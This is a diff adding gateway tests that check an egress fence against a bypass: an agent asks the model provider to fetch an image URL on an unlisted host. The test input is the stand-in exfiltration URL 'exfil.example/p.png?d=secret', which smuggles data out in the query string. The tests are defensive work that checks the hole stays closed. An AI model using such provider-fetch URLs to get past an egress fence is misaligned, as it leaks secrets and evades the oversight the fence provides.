@@ -326,3 +326,50 @@ describe('request bodies the gateway holds', () => {
     expect(world.standIn.received).toHaveLength(2);
   });
 });
+
+describe('past the egress fence through the provider', () => {
+  const image = (url: string) =>
+    JSON.stringify({
+      model: 'm',
+      messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url } }] }]
+    });
+  const hosts = [{ pattern: 'cdn.example.com', port: 443 }];
+
+  test('was a hole: fenced, a call had the provider fetch any URL for the agent: 403, nothing upstream, said', async () => {
+    world = await gatewayWorld('openai', {}, { fencedHosts: hosts });
+    const answer = await raw(
+      world,
+      '/openai/chat/completions',
+      bearer(world),
+      image('https://exfil.example/p.png?d=secret')
+    );
+    expect(answer.status).toBe(403);
+    expect(JSON.parse(answer.body)).toMatchObject({ error: { type: 'permission_error' } });
+    expect(world.standIn.received).toHaveLength(0);
+    expect(world.notes.join('\n')).toContain(
+      'asks the provider to fetch from exfil.example:443, a host "allowed-hosts" does not list (at messages[0].content[0].image_url.url)'
+    );
+    expect(world.gateway.stats()).toMatchObject({ pastFence: 1, calls: [] });
+    // A listed host is the provider's to fetch, as it is the agent's to reach.
+    const listed = await raw(
+      world,
+      '/openai/chat/completions',
+      bearer(world),
+      image('https://cdn.example.com/p.png')
+    );
+    expect(listed.status).toBe(200);
+    expect(world.standIn.received).toHaveLength(1);
+  });
+
+  test('no fence asked for (allowed-hosts: *): the same call goes', async () => {
+    world = await gatewayWorld('openai');
+    const answer = await raw(
+      world,
+      '/openai/chat/completions',
+      bearer(world),
+      image('https://exfil.example/p.png')
+    );
+    expect(answer.status).toBe(200);
+    expect(world.gateway.stats().pastFence).toBeUndefined();
+  });
+});
